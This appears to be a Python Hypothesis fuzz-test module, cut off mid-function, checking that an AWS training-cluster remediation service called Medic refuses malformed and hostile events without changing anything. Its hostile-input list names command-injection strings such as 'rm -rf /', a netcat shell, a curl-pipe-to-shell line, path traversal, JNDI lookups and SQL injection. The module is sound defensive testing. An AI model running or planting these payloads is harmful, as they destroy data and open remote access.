"""Property: whatever reaches Medic's edges (malformed, oversized, wrong-typed, hostile or plain random
JSON) gets one well-formed `rejected` or `ignored` record, never an exception that would loop through
retries, and never an AWS call that changes anything: the run-time mode read is the only call allowed.

Events start from the real samples in tests/fixtures/events/ and are broken on purpose (1-3 fields
made invalid: removed, wrong-typed, hostile or oversized; junk keys added anywhere). What counts as
broken is written here from the AWS formats, independently of Medic's models, so a model that lets a
hostile value through fails the property instead of being used as its own oracle.
"""

from __future__ import annotations

import copy
import json
import re
import threading
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import boto3
import pytest
from aws_lambda_powertools.utilities.parser.models import DynamoDBStreamRecordModel
from botocore.exceptions import ClientError
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from medic.adapters.agent_queue import AgentQueues
from medic.adapters.checkpoints import Checkpoints
from medic.adapters.hyperpod import HyperPod
from medic.adapters.metrics import TrainingMetrics
from medic.adapters.mode import ModeSwitch
from medic.adapters.pager import Pager
from medic.adapters.training import TrainingJobs
from medic.config import EVENT_AGE_LIMIT, EVENT_CLOCK_SKEW, parse_config
from medic.core.agent_command import CommandContext
from medic.core.models import Edge, RemediationRecord, Trigger
from medic.deps import Deps
from medic.flows.agent.commands import parse_agent_command_pk
from medic.flows.agent.requests import RequeueJobEvent
from medic.flows.agent.restart import handle_requeue_event
from medic.flows.agent.results import record_agent_result
from medic.flows.jobs.events import TrainingJobStateEvent
from medic.flows.jobs.restart import restart_training_job
from medic.flows.mode.watch import ParameterStoreChangeEvent, record_mode_change
from medic.flows.node.cluster_event_policy import ClusterEvent
from medic.flows.node.cluster_events import record_cluster_event
from medic.flows.node.health_event import NodeHealthEvent, remediate_node
from medic.flows.node.sweep import ScheduleEvent
from medic.flows.node.sweep import reconcile as reconcile_run
from medic.flows.stall.policy import AlarmStateChangeEvent
from medic.flows.stall.response import respond_to_alarm
from medic.handlers import (
    agent_results,
    alarm,
    cluster_event,
    node_health,
    reconcile,
    recovery_check,
    requeue_request,
    training_job,
)
from medic.ledger.agents import AgentStore
from medic.ledger.table import Table
from medic.wiring import JOBS_ON_NODE
from tests.functional.conftest import CLUSTER, CONFIG, MODE_PARAMETER, REGION, TABLE, Account, Medic, medic_world
from tests.helpers import load_event

EXAMPLES = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                              HealthCheck.too_slow,
                                                                              HealthCheck.data_too_large])
FEWER = settings(EXAMPLES, max_examples=60)
NOW = datetime(2026, 11, 21, 3, 10, 30, tzinfo=UTC)
JOB = "llama3-70b"
EKS_CLUSTER, EKS_JOB = "finetune-eks", "bert-xl"
FUZZ_CONFIG = {**CONFIG, "jobs": [{"name": JOB, "cluster": CLUSTER},
                                  {"name": EKS_JOB, "cluster": EKS_CLUSTER, "namespace": "kubeflow",
                                   "kind": "PyTorchJob"}]}
RECORD_FIELDS = frozenset(RemediationRecord.model_fields)
MODE_READ = ("ssm", "GetParameter")


# --- every AWS call the handlers' clients make, checked as it happens


class ForbiddenCall(AssertionError):
    """An AWS call the property does not allow (raised inside the call, and remembered for the assertion)."""


class CallLog:
    """Hooks botocore's before-parameter-build on each client: records (service, operation, API parameters),
    refuses what is not allowed, and can fail chosen calls with a ClientError (fault injection)."""

    def __init__(self) -> None:
        self.calls: list[tuple[str, str, dict]] = []
        self.forbidden: list[str] = []
        self.allow: Callable[[str, str, dict], bool] = lambda service, operation, params: (
            (service, operation) == MODE_READ)
        self.fail: Callable[[str, str, dict], str | None] = lambda service, operation, params: None
        self._lock = threading.Lock()

    def watch(self, client: Any) -> Any:
        client.meta.events.register("before-parameter-build", self._before_call, unique_id=f"calllog-{id(self)}")
        return client

    def reset(self) -> None:
        with self._lock:
            self.calls.clear()
            self.forbidden.clear()

    def _before_call(self, model: Any, params: dict, **_: Any) -> None:
        service, operation = model.service_model.service_name, model.name
        with self._lock:
            self.calls.append((service, operation, params))
        if not self.allow(service, operation, params):
            message = f"{service}:{operation} {json.dumps(params, default=str)[:300]}"
            with self._lock:
                self.forbidden.append(message)
            raise ForbiddenCall(message)
        code = self.fail(service, operation, params)
        if code:
            raise ClientError({"Error": {"Code": code, "Message": "injected by the test"}}, operation)

    def operations(self) -> list[tuple[str, str]]:
        return [(service, operation) for service, operation, _ in self.calls]


class FuzzWorld:
    def __init__(self, medic: Medic, calls: CallLog, deps: Deps) -> None:
        self.medic, self.calls, self.deps = medic, calls, deps

    def __repr__(self) -> str:  # hypothesis prints the fixtures of a failing example
        return "FuzzWorld(moto)"

    def run(self, entry: Callable[[Any, Deps], Any], raw: Any) -> tuple[Any, list[dict]]:
        """One invocation: its result and the remediation lines it logged."""
        self.calls.reset()
        before = len(self.medic.log.lines)
        result = entry(raw, self.deps)
        return result, self.medic.log.lines[before:]


def guarded_deps(medic: Medic, calls: CallLog) -> Deps:
    """The deployment's adapters, each on its own watched moto client (none on the Stubber)."""

    def client(name: str) -> Any:
        return calls.watch(boto3.client(name, region_name=REGION))

    queue_url = medic.sqs.create_queue(QueueName=f"medic-agent-{CLUSTER}")["QueueUrl"]
    config = medic.deps.config
    return Deps(config=config, hyperpod=HyperPod(client("sagemaker")), table=Table(TABLE, client("dynamodb")),
                pager=Pager(medic.deps.pager.topic_arn, client("sns")),
                mode=ModeSwitch(MODE_PARAMETER, config.mode, client("ssm")), jobs_on_node=JOBS_ON_NODE,
                region=REGION, now=lambda: NOW,
                training=TrainingJobs(client("sagemaker")), checkpoints=Checkpoints(client("s3")),
                metrics=TrainingMetrics(client("cloudwatch")),
                agents=AgentQueues({CLUSTER: queue_url}, client("sqs")))


@pytest.fixture
def world(aws: Account) -> Iterator[FuzzWorld]:
    """One moto world per test function, reused by every example of its property."""
    for medic in medic_world(parse_config(FUZZ_CONFIG), aws):
        # A live agent: a requeue that slipped through validation would reach SendMessage (and fail the test).
        for cluster in (CLUSTER, EKS_CLUSTER):  # Medic's note of it (and of the EKS agent's, whose reports count)
            medic.deps.table.client.put_item(TableName=TABLE, Item={
                "pk": {"S": f"agentseen#{cluster}"}, "sk": {"S": "heartbeat"},
                "seen_epoch": {"N": str(int(NOW.timestamp()))}})
        calls = CallLog()
        yield FuzzWorld(medic, calls, guarded_deps(medic, calls))


# --- what a refusal must look like


def assert_refused(world: FuzzWorld, record: Any, lines: list[dict], outcomes: tuple[str, ...] = ("rejected",)) -> None:
    assert isinstance(record, dict), record
    assert set(record) == RECORD_FIELDS
    RemediationRecord.model_validate(record)
    assert record["outcome"] in outcomes, record
    assert (record["action"], record["paged"], record["attempt"]) == ("none", False, 0), record
    if record["outcome"] == "rejected":
        assert record["fault"] == "invalid"
        assert record["incident"] == f"event:{record['event_id']}"
        assert len(record["event_id"]) <= 80 and len(record["reason"]) <= 500
    assert not world.calls.forbidden, world.calls.forbidden
    assert set(world.calls.operations()) <= {MODE_READ}, world.calls.operations()
    # Exactly one remediation line, the record itself, and one CloudWatch can store (UTF-8).
    assert len(lines) == 1, lines
    assert {key: lines[0][key] for key in record} == record
    json.dumps(lines[0], ensure_ascii=False).encode("utf-8")


# --- values: hostile, oversized, wrong-typed

SHELL_AND_FRIENDS = [
    "; rm -rf /", "$(reboot)", "`id`", "| nc 10.0.0.1 4444", "&& curl http://x | sh", "i-0d4e5f60718293a4b; reboot",
    "i-0d4e5f60718293a4b\n", "\ni-0d4e5f60718293a4b", " i-0d4e5f60718293a4b", "I-0D4E5F60718293A4B", "i-0d4e5f6",
    "pretrain-slurm\x00", "pretrain-slurm\n", "pretrain slurm", "-pretrain", "4211\n", "4211 ", "-1", "42.11", "1e3",
    "../../../etc/passwd", "' OR '1'='1", '{"$ne": null}', "${jndi:ldap://10.0.0.1/a}", "{{7*7}}", "%s%s%n",
    "\u202eexe.txt", "\u200b", "\ufeffpretrain-slurm", "pretrain\u2010slurm", "\uff14\uff12\uff11\uff11",
    "pretrain-\u0455lurm", "\U0001f600", "\\", "\t", "", " ", "null", "None", "true", "NaN", "-", "--",
    "arn:aws:sagemaker:us-west-2:123456789012:cluster/k3v9q2w8x1za; reboot",
    "arn:aws:sagemaker:us-west-2:123456789012:training-job/", "medic-stall-llama3-70b\n", "ALARM ", "alarm",
    "command#", "command#-x", "command#a b", "executed\n", "EXECUTED",
]
LENGTHS = [64, 65, 129, 256, 257, 1025, 2001, 4097, 70_000, 300_000]


def huge_strings() -> st.SearchStrategy[str]:
    return st.builds(lambda unit, length: (unit * length)[:length],
                     st.sampled_from(["a", "9", "-", "\u00e9", "\U0001f600", "; ", "i-0"]), st.sampled_from(LENGTHS))


def deep(depth: int, leaf: Any) -> Any:
    for index in range(depth):
        leaf = [leaf] if index % 2 else {"a": leaf}
    return leaf


JSON_LEAVES = st.one_of(st.none(), st.booleans(), st.integers(min_value=-(10**30), max_value=10**30),
                        st.floats(allow_nan=True, allow_infinity=True), st.text(max_size=40))
JSON = st.recursive(JSON_LEAVES, lambda children: st.one_of(
    st.lists(children, max_size=4), st.dictionaries(st.text(max_size=12), children, max_size=4)), max_leaves=20)
HOSTILE_STRINGS = st.one_of(st.sampled_from(SHELL_AND_FRIENDS), st.text(max_size=80), huge_strings())
WRONG_TYPES = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=True, allow_infinity=True), st.lists(JSON, max_size=3),
    st.dictionaries(st.text(max_size=12), JSON, max_size=3),
    st.builds(deep, st.integers(min_value=50, max_value=400), JSON_LEAVES))


# --- the formats, from the AWS documentation (ASCII: `\d` and `$` are not used on purpose)


def full(pattern: str, lo: int = 0, hi: int = 10**9) -> Callable[[Any], bool]:
    compiled = re.compile(pattern, re.ASCII)
    return lambda value: isinstance(value, str) and lo <= len(value) <= hi and compiled.fullmatch(value) is not None


def text(lo: int = 0, hi: int = 10**9, optional: bool = False) -> Callable[[Any], bool]:
    return lambda value: (optional and value is None) or (isinstance(value, str) and lo <= len(value) <= hi)


def is_dict(value: Any) -> bool:
    return isinstance(value, dict)


def one_of(*values: str) -> Callable[[Any], bool]:
    return lambda value: isinstance(value, str) and value in values


def str_list(value: Any) -> bool:
    return isinstance(value, list) and all(isinstance(item, str) for item in value)


def a_time(value: Any) -> bool:
    """Conservative: a number or any string with a digit might be a time; only the rest surely is not."""
    return (isinstance(value, int | float) and not isinstance(value, bool)) or (
        isinstance(value, str) and any(ch.isdigit() for ch in value))


def str_map_or_none(value: Any) -> bool:
    return value is None or (isinstance(value, dict) and all(isinstance(v, str) for v in value.values()))


CLUSTER_NAME = r"[a-zA-Z0-9](-*[a-zA-Z0-9]){0,62}"
INSTANCE_ID = r"i-[0-9a-f]{8}([0-9a-f]{9})?"
CLUSTER_ARN = r"arn:aws[a-z-]*:sagemaker:[a-z0-9-]+:[0-9]{12}:cluster/[a-zA-Z0-9-]{1,63}"
JOB_NAME = r"[a-zA-Z0-9](-*[a-zA-Z0-9]){0,62}"
JOB_ARN = r"arn:aws[a-z-]*:sagemaker:[a-z0-9-]+:[0-9]{12}:training-job/.{1,63}"


@dataclass(frozen=True)
class Spec:
    """One field of an event: where it is, what valid looks like, and whether it may be absent."""

    path: tuple[str, ...]
    valid: Callable[[Any], bool]
    optional: bool = False


EVENT_ID = full(r"[A-Za-z0-9-]+", 1, 64)  # what EventBridge sends (a UUID), bounded: it ends up in ledger keys


def envelope(source: Callable[[Any], bool] | None = None, detail_type: Callable[[Any], bool] | None = None,
             event_id: Callable[[Any], bool] = EVENT_ID) -> list[Spec]:
    source, detail_type = source or text(), detail_type or text()
    return [Spec(("version",), text()), Spec(("id",), event_id), Spec(("source",), source),
            Spec(("account",), text()), Spec(("time",), a_time), Spec(("region",), text()),
            Spec(("resources",), str_list), Spec(("detail-type",), detail_type), Spec(("detail",), is_dict)]


NODE_SPECS = [*envelope(), Spec(("detail", "ClusterName"), full(CLUSTER_NAME)),
              Spec(("detail", "ClusterArn"), full(CLUSTER_ARN)),
              Spec(("detail", "InstanceId"), full(INSTANCE_ID)), Spec(("detail", "HealthSummary"), is_dict),
              Spec(("detail", "HealthSummary", "HealthStatus"), text(1, 64)),
              Spec(("detail", "HealthSummary", "HealthStatusReason"), text(0, 4096), optional=True),
              Spec(("detail", "HealthSummary", "RepairAction"), text(0, 256, optional=True), optional=True),
              Spec(("detail", "HealthSummary", "Recommendation"), text(0, 1024, optional=True), optional=True)]
JOB_SPECS = [*envelope(), Spec(("detail", "TrainingJobName"), full(JOB_NAME)),
             Spec(("detail", "TrainingJobArn"), full(JOB_ARN)),
             Spec(("detail", "TrainingJobStatus"), text(1, 32)),
             Spec(("detail", "FailureReason"), text(0, 4096), optional=True),
             Spec(("detail", "Tags"), str_map_or_none, optional=True)]
ALARM_STATE = r"OK|ALARM|INSUFFICIENT_DATA"
ALARM_TIMESTAMP = r"[0-9T:.+Z-]+"
ALARM_SPECS = [*envelope(), Spec(("detail", "alarmName"), full(r"[A-Za-z0-9._-]+", 1, 255)),
               Spec(("detail", "state"), is_dict), Spec(("detail", "state", "value"), full(ALARM_STATE)),
               Spec(("detail", "state", "reason"), text(0, 4096), optional=True),
               Spec(("detail", "state", "timestamp"), full(ALARM_TIMESTAMP, 1, 64)),
               Spec(("detail", "previousState"), lambda value: value is None or is_dict(value), optional=True),
               Spec(("detail", "previousState", "value"), full(ALARM_STATE)),
               Spec(("detail", "previousState", "timestamp"), full(ALARM_TIMESTAMP, 1, 64))]
REQUEUE_SPECS = [*envelope(one_of("medic.operator"), one_of("Medic Requeue Job")),
                 Spec(("detail", "cluster"), full(CLUSTER_NAME)),
                 # the sample names the job by id: without it (or with a bad one) there is no valid target
                 Spec(("detail", "job_id"), full(r"[0-9]{1,10}")),
                 Spec(("detail", "job_name"), lambda value: value is None or full(r"[A-Za-z0-9._-]{1,128}")(value),
                      optional=True),
                 Spec(("detail", "reason"), text(1, 2000))]
CLUSTER_EVENT_SPECS = [*envelope(), Spec(("detail", "EventDetails"), is_dict),
                       Spec(("detail", "EventDetails", "EventId"), full(r"[A-Za-z0-9-]+", 1, 128)),
                       Spec(("detail", "EventDetails", "ClusterArn"), full(CLUSTER_ARN)),
                       Spec(("detail", "EventDetails", "ClusterName"), full(CLUSTER_NAME)),
                       Spec(("detail", "EventDetails", "InstanceGroupName"),
                            lambda value: value is None or full(CLUSTER_NAME)(value), optional=True),
                       Spec(("detail", "EventDetails", "InstanceId"),
                            lambda value: value is None or full(INSTANCE_ID)(value), optional=True),
                       Spec(("detail", "EventDetails", "ResourceType"), text(0, 64), optional=True),
                       Spec(("detail", "EventDetails", "EventLevel"), full(r"Info|Warn|Error")),
                       Spec(("detail", "EventDetails", "Description"), text(0, 4096), optional=True)]
SCHEDULE_SPECS = envelope(one_of("aws.events"), one_of("Scheduled Event"), full(r"[A-Za-z0-9._:-]+", 1, 128))
# SSM's "Parameter Store Change" of the mode parameter (the mode watch, issue 28 item 8)
PARAMETER_SPECS = [*envelope(one_of("aws.ssm"), one_of("Parameter Store Change")),
                   Spec(("detail", "name"), text(1, 2048)), Spec(("detail", "operation"), full(r"[A-Za-z]+", 1, 64)),
                   Spec(("detail", "type"), text(0, 64), optional=True)]
KNOWN_NAMES = frozenset({"version", "id", "source", "account", "time", "region", "resources", "detail-type",
                         "detail_type", "detail", "replay-name", "replay_name"}
                        | {spec.path[-1] for specs in (NODE_SPECS, JOB_SPECS, ALARM_SPECS, REQUEUE_SPECS,
                                                       CLUSTER_EVENT_SPECS, PARAMETER_SPECS) for spec in specs})
DELETE = object()


def breaking(spec: Spec) -> st.SearchStrategy[Any]:
    """A value (or DELETE) that makes the field invalid by the format above."""
    values = st.one_of(WRONG_TYPES, HOSTILE_STRINGS).filter(lambda value: not spec.valid(value))
    return values if spec.optional else st.one_of(st.just(DELETE), values)


def junk_keys() -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(["__proto__", "constructor", "$where", "; rm -rf /", "", "\u0000", "Tags "]),
                     st.text(max_size=20)).filter(lambda key: key not in KNOWN_NAMES)


def node_at(event: Any, path: tuple[str, ...]) -> dict | None:
    for key in path:
        if not isinstance(event, dict) or not isinstance(event.get(key), dict):
            return None
        event = event[key]
    return event if isinstance(event, dict) else None


@st.composite
def broken(draw: st.DrawFn, sample: dict, specs: list[Spec]) -> dict:
    """The sample with 1-3 fields made invalid, then junk keys added anywhere (junk never repairs a field)."""
    event = copy.deepcopy(sample)
    for spec in draw(st.lists(st.sampled_from(specs), min_size=1, max_size=3, unique_by=lambda s: s.path)):
        parent = node_at(event, spec.path[:-1])
        if parent is None:  # an ancestor was already broken (not a dict any more)
            continue
        value = draw(breaking(spec))
        if value is DELETE:
            parent.pop(spec.path[-1], None)
        else:
            parent[spec.path[-1]] = value
    containers = [(), ("detail",), *{spec.path[:-1] for spec in specs if len(spec.path) > 2}]
    for where, key, value in draw(st.lists(st.tuples(st.sampled_from(containers), junk_keys(), JSON), max_size=3)):
        parent = node_at(event, where) if where else event
        if parent is not None and key not in parent:
            parent[key] = value
    return event


def random_json() -> st.SearchStrategy[Any]:
    """Anything JSON can carry at the top level, plus dicts that look a bit like an envelope."""
    envelope_ish = st.fixed_dictionaries({}, optional={
        "version": JSON, "id": JSON, "source": JSON, "detail-type": JSON, "time": JSON, "detail": JSON,
        "resources": JSON, "account": JSON, "region": JSON})
    return st.one_of(JSON, envelope_ish, st.builds(deep, st.integers(min_value=50, max_value=400), JSON_LEAVES))


NODE_SAMPLE = load_event("hyperpod-node-health-unhealthy")
JOB_SAMPLE = load_event("training-job-failed")
ALARM_SAMPLE = load_event("cloudwatch-alarm-state-change")
REQUEUE_SAMPLE = load_event("medic-requeue-job")
STREAM_SAMPLE = load_event("ledger-stream-agent-result")
CLUSTER_EVENT_SAMPLE = load_event("hyperpod-cluster-event-error")
PARAMETER_SAMPLE = load_event("ssm-parameter-store-change")
SCHEDULE_SAMPLE = {"version": "0", "id": "53dc4d37-cffa-4f76-80c9-8b7d4a4d2eaa", "detail-type": "Scheduled Event",
                   "source": "aws.events", "account": "123456789012", "time": "2026-11-21T03:10:00Z",
                   "region": REGION, "resources": [f"arn:aws:events:{REGION}:123456789012:rule/medic-reconcile"],
                   "detail": {}}


def test_the_samples_are_valid_by_both_the_formats_here_and_medics_models():
    """The oracle's baseline: unbroken, every sample passes (so breaking it is what gets it refused)."""
    for model, sample, specs in ((NodeHealthEvent, NODE_SAMPLE, NODE_SPECS),
                                 (TrainingJobStateEvent, JOB_SAMPLE, JOB_SPECS),
                                 (AlarmStateChangeEvent, ALARM_SAMPLE, ALARM_SPECS),
                                 (RequeueJobEvent, REQUEUE_SAMPLE, REQUEUE_SPECS),
                                 (ClusterEvent, CLUSTER_EVENT_SAMPLE, CLUSTER_EVENT_SPECS),
                                 (ParameterStoreChangeEvent, PARAMETER_SAMPLE, PARAMETER_SPECS),
                                 (ScheduleEvent, SCHEDULE_SAMPLE, SCHEDULE_SPECS)):
        model.model_validate(sample)
        for spec in specs:
            value: Any = sample
            for key in spec.path:
                value = value.get(key, DELETE) if isinstance(value, dict) else DELETE
            assert (value is DELETE and spec.optional) or spec.valid(value), spec.path


# --- the four EventBridge use cases


@EXAMPLES
@given(event=broken(NODE_SAMPLE, NODE_SPECS))
def test_node_health_refuses_broken_events(world, event):
    assert_refused(world, *world.run(remediate_node, event))


@EXAMPLES
@given(event=broken(JOB_SAMPLE, JOB_SPECS))
def test_training_job_refuses_broken_events(world, event):
    assert_refused(world, *world.run(restart_training_job, event))


@EXAMPLES
@given(event=broken(ALARM_SAMPLE, ALARM_SPECS))
def test_alarm_refuses_broken_events(world, event):
    assert_refused(world, *world.run(respond_to_alarm, event))


@EXAMPLES
@given(event=broken(REQUEUE_SAMPLE, REQUEUE_SPECS))
def test_requeue_request_refuses_broken_events(world, event):
    assert_refused(world, *world.run(handle_requeue_event, event))


@EXAMPLES
@given(event=broken(CLUSTER_EVENT_SAMPLE, CLUSTER_EVENT_SPECS))
def test_cluster_event_refuses_broken_events(world, event):
    assert_refused(world, *world.run(record_cluster_event, event))


@EXAMPLES
@given(event=st.one_of(broken(SCHEDULE_SAMPLE, SCHEDULE_SPECS), random_json()))
def test_reconcile_refuses_broken_schedule_events_and_sweeps_nothing(world, event):
    before = len(world.medic.log.lines)
    report, _ = world.run(reconcile_run, event)
    lines = world.medic.log.lines[before:]
    assert report["rejected"] is True and report["clusters"] == [], report
    assert len(lines) == 1, lines
    record = {key: lines[0][key] for key in RECORD_FIELDS}
    assert report["run"] == record["event_id"]
    assert_refused(world, record, lines)


@EXAMPLES
@given(event=broken(PARAMETER_SAMPLE, PARAMETER_SPECS))
def test_mode_watch_refuses_broken_events(world, event):
    assert_refused(world, *world.run(record_mode_change, event))


ENTRIES = [remediate_node, restart_training_job, respond_to_alarm, handle_requeue_event, record_cluster_event,
           record_mode_change]


@EXAMPLES
@given(raw=random_json(), entry=st.sampled_from(ENTRIES))
def test_random_json_is_rejected_by_every_use_case(world, raw, entry):
    assert_refused(world, *world.run(entry, raw))


# --- valid events about things Medic does not manage: ignored, with hostile free text riding along


def free_text(limit: int) -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(SHELL_AND_FRIENDS), st.text(max_size=200), huge_strings()).map(
        lambda value: value[:limit])


def names(pattern: str) -> st.SearchStrategy[str]:
    return st.from_regex(re.compile(pattern, re.ASCII), fullmatch=True)


event_ids = st.uuids().map(str)  # what EventBridge sends; hostile ids are the broken-event properties' business


@st.composite
def unmanaged_node_events(draw: st.DrawFn) -> dict:
    event = copy.deepcopy(NODE_SAMPLE)
    configured = {cluster["name"] for cluster in FUZZ_CONFIG["clusters"]}
    event["id"] = draw(event_ids)
    event["detail"]["ClusterName"] = draw(names(CLUSTER_NAME).filter(lambda name: name not in configured))
    event["detail"]["InstanceId"] = draw(names(INSTANCE_ID))
    summary = event["detail"]["HealthSummary"]
    summary["HealthStatus"] = draw(free_text(64).filter(lambda value: len(value) >= 1))
    summary["HealthStatusReason"] = draw(free_text(4096))
    return event


@st.composite
def unmanaged_job_events(draw: st.DrawFn) -> dict:
    event = copy.deepcopy(JOB_SAMPLE)
    name = draw(names(JOB_NAME).filter(lambda value: len(value) <= 63 and not value.startswith("ft-")))
    event["id"] = draw(event_ids)
    event["detail"].update(TrainingJobName=name, FailureReason=draw(free_text(4096)),
                           TrainingJobArn=f"arn:aws:sagemaker:{REGION}:123456789012:training-job/{name}",
                           TrainingJobStatus=draw(st.sampled_from(["Failed", "Stopped", "Completed", "InProgress"])))
    return event


@st.composite
def unmanaged_alarm_events(draw: st.DrawFn) -> dict:
    event = copy.deepcopy(ALARM_SAMPLE)
    name = draw(st.one_of(
        names(r"[A-Za-z0-9._-]{1,255}"),
        st.builds("medic-{}-{}".format, st.sampled_from(["stall", "divergence", "slowdown", "failed-nodes", "x"]),
                  names(r"[A-Za-z0-9._-]{1,60}"))).filter(lambda value: value not in (
                      f"medic-stall-{JOB}", f"medic-divergence-{JOB}", f"medic-slowdown-{JOB}",
                      f"medic-failed-nodes-{CLUSTER}", "medic-failed-nodes-finetune-eks", f"medic-stall-{EKS_JOB}",
                      f"medic-divergence-{EKS_JOB}", f"medic-slowdown-{EKS_JOB}")))
    event["id"] = draw(event_ids)
    event["detail"]["alarmName"] = name
    event["resources"] = [f"arn:aws:cloudwatch:{REGION}:123456789012:alarm:{name}"]  # CloudWatch names the alarm
    event["detail"]["state"]["value"] = draw(st.sampled_from(["OK", "ALARM", "INSUFFICIENT_DATA"]))
    event["detail"]["state"]["reason"] = draw(free_text(4096))
    return event


@EXAMPLES
@given(event=st.one_of(unmanaged_node_events().map(lambda e: (remediate_node, e)),
                       unmanaged_job_events().map(lambda e: (restart_training_job, e)),
                       unmanaged_alarm_events().map(lambda e: (respond_to_alarm, e))))
def test_valid_events_about_unmanaged_things_are_ignored_without_a_call(world, event):
    entry, raw = event
    record, lines = world.run(entry, raw)
    assert_refused(world, record, lines, outcomes=("ignored",))
    assert record["event_id"] == raw["id"]


# --- the Lambda entry points themselves, wired from their module's dependencies()


@dataclass
class LambdaContext:
    function_name: str = "medic-fuzz"
    memory_limit_in_mb: int = 256
    invoked_function_arn: str = f"arn:aws:lambda:{REGION}:123456789012:function:medic-fuzz"
    aws_request_id: str = "00000000-0000-0000-0000-00000000f022"


HANDLERS = {node_health: NODE_SAMPLE, training_job: JOB_SAMPLE, alarm: ALARM_SAMPLE,
            requeue_request: REQUEUE_SAMPLE, cluster_event: CLUSTER_EVENT_SAMPLE}
SPECS = {node_health: NODE_SPECS, training_job: JOB_SPECS, alarm: ALARM_SPECS, requeue_request: REQUEUE_SPECS,
         cluster_event: CLUSTER_EVENT_SPECS}


@pytest.fixture
def wired(world, monkeypatch) -> FuzzWorld:
    for module in (*HANDLERS, reconcile, recovery_check):
        monkeypatch.setattr(module, "dependencies", lambda: world.deps)
    return world


@FEWER
@given(case=st.sampled_from(list(HANDLERS)).flatmap(
    lambda module: st.tuples(st.just(module), st.one_of(broken(HANDLERS[module], SPECS[module]), random_json()))))
def test_the_lambda_handlers_refuse_what_their_use_cases_refuse(wired, case):
    module, raw = case
    record, lines = wired.run(lambda event, deps: module.handler(event, LambdaContext()), raw)
    assert_refused(wired, record, lines)


@FEWER
@given(raw=st.one_of(broken(SCHEDULE_SAMPLE, SCHEDULE_SPECS), random_json()))
def test_the_reconcile_lambda_handler_refuses_what_reconcile_refuses(wired, raw):
    report, lines = wired.run(lambda event, deps: reconcile.handler(event, LambdaContext()), raw)
    assert report["rejected"] is True and report["clusters"] == [], report
    assert_refused(wired, {key: lines[0][key] for key in RECORD_FIELDS}, lines)


@FEWER
@given(raw=st.one_of(random_json(), st.just(SCHEDULE_SAMPLE)))
def test_the_recovery_check_takes_any_event_and_with_nothing_to_watch_changes_nothing(wired, raw):
    # It reads its event only for a run id: whatever arrives, a run with no open watch reads and writes nothing.
    wired.calls.allow = lambda service, operation, params: (service, operation) in (MODE_READ, ("dynamodb", "Query"))
    response, lines = wired.run(lambda event, deps: recovery_check.handler(event, LambdaContext()), raw)
    assert (response, lines) == ({"concluded": 0, "job_timelines": 0}, [])
    assert not wired.calls.forbidden


# --- the agent results (the ledger's stream): one record function, one batch handler

RESULT_RECORD = STREAM_SAMPLE["Records"][1]
SKIPPED_RECORDS = [STREAM_SAMPLE["Records"][i] for i in (0, 2, 3)]  # a claim, a heartbeat, a TTL delete
COMMAND_ID = r"[A-Za-z0-9][A-Za-z0-9-]{0,63}"
DDB_WRONG = st.one_of(st.builds(lambda n: {"N": str(n)}, st.integers(-(10**37), 10**37)),  # DynamoDB: 38 digits
                      st.builds(lambda b: {"BOOL": b}, st.booleans()), st.just({"NULL": True}),
                      st.just({"L": [{"N": "1"}]}), st.just({"M": {"a": {"S": "b"}}}), st.just({"NS": ["1", "2"]}))
RESULT_SPECS = {  # NewImage attribute → what the agent writes (agent/medic_agent/ledger.py)
    "status": lambda value: value in ({"S": "executed"}, {"S": "failed"}, {"S": "refused"}),
    "message": lambda value: "S" in value, "cluster": lambda value: "S" in value, "kind": lambda value: "S" in value,
    "target": lambda value: "S" in value, "incident": lambda value: "S" in value,
    "finished_at": lambda value: "S" in value,
    "job_ids": lambda value: "SS" in value or ("L" in value and all("S" in item for item in value["L"])),
    # what DynamoDB's TTL acts on, within a week of the write (the sample's ApproximateCreationDateTime)
    "expires_at": lambda value: "N" in value and _written(value["N"]),
}


def _written(number: str) -> bool:
    written = RESULT_RECORD["dynamodb"]["ApproximateCreationDateTime"]
    try:
        return written - 86400 <= float(number) <= written + 7 * 86400 + 3600
    except ValueError:
        return False


def stream_record(command_key: str, image: dict, sequence: str, event_name: str = "INSERT") -> dict:
    record = copy.deepcopy(RESULT_RECORD)
    record["eventID"] = uuid.uuid4().hex
    record["eventName"] = event_name
    change = record["dynamodb"]
    change["Keys"] = {"pk": {"S": command_key}, "sk": {"S": "result"}}
    change["NewImage"] = {**image, "pk": {"S": command_key}, "sk": {"S": "result"}}
    change["SequenceNumber"] = sequence
    return record


@st.composite
def broken_results(draw: st.DrawFn, sequence: str = "1") -> dict:
    """An `agent#<cluster>#command#<id>/result` item as DynamoDB streams it (keys are strings, as the table's
    schema makes them) whose content the agent could not have written: a bad command id, status or attribute
    type."""
    image = copy.deepcopy(RESULT_RECORD["dynamodb"]["NewImage"])
    command = str(uuid.UUID(int=draw(st.integers(min_value=0, max_value=2**128 - 1))))
    bad_id = st.one_of(st.sampled_from(SHELL_AND_FRIENDS), st.text(max_size=80), huge_strings().map(lambda s: s[:1000]))
    broken_id = draw(st.booleans())
    if broken_id:
        command = draw(bad_id.filter(lambda value: not re.fullmatch(COMMAND_ID, value, re.ASCII)
                                     and len(f"command#{value}".encode(errors="surrogatepass")) <= 2048))
    bad_attributes = draw(st.lists(st.sampled_from(sorted(RESULT_SPECS)), min_size=0 if broken_id else 1,
                                   max_size=3, unique=True))
    for name in bad_attributes:
        options = DDB_WRONG if name != "status" else st.one_of(DDB_WRONG, HOSTILE_STRINGS.map(lambda s: {"S": s}))
        image[name] = draw(options.filter(lambda value, name=name: not RESULT_SPECS[name](value)))
    return stream_record(f"agent#{CLUSTER}#command#{command}", image, sequence)


def forget_claims(world: FuzzWorld, records: list[dict]) -> None:
    """Hypothesis repeats command ids across examples: each example starts with no result recorded or paged."""
    for record in records:
        parsed = parse_agent_command_pk(record["dynamodb"]["Keys"]["pk"]["S"])
        if parsed is None:
            continue
        cluster, command = parsed
        for pk, sk in ((f"command#{cluster}#{command}", f"rejected#{cluster}"),
                       (f"command#{cluster}#{command}", "recorded"),
                       (f"incident#agent:{cluster}:rejected", "page"),
                       (f"pagewindow#agent_rejected#cluster:{cluster}", "window")):
